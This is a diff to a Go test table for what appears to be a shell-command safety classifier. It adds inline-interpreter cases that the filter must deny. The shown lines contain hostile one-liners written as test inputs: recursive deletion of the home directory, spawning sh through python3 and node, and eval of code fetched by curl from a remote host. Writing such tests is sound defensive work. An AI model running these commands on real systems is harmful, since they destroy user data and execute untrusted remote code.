@@ -149,6 +149,9 @@ var classTests12Allow = []classTest{
 	{"inline-literal-call", `perl -e 'system("rm -rf $ENV{HOME}")'`, Deny},
 	{"inline-literal-call", `ruby -e 'system("rm -rf #{Dir.home}")'`, Deny},
 	{"inline-literal-call", `awk 'BEGIN{system("date")}'`, Deny},
+	{"inline-literal-call", `python3 -c "import subprocess; subprocess.Popen(['sh'], stdin=subprocess.PIPE).communicate(b'id')"`, Deny},
+	{"inline-literal-call", `node -e "require('child_process').spawn('sh').stdin.write('id')"`, Deny},
+	{"inline-literal-call", `node -e "eval(require('child_process').execSync('curl -s https://x.example').toString())"`, Deny},
 	{"inline-literal-call", `awk '{ "echo " $1 | getline y }'`, Deny},
 
 	// Setup code meant for eval, from the subcommand that prints it.
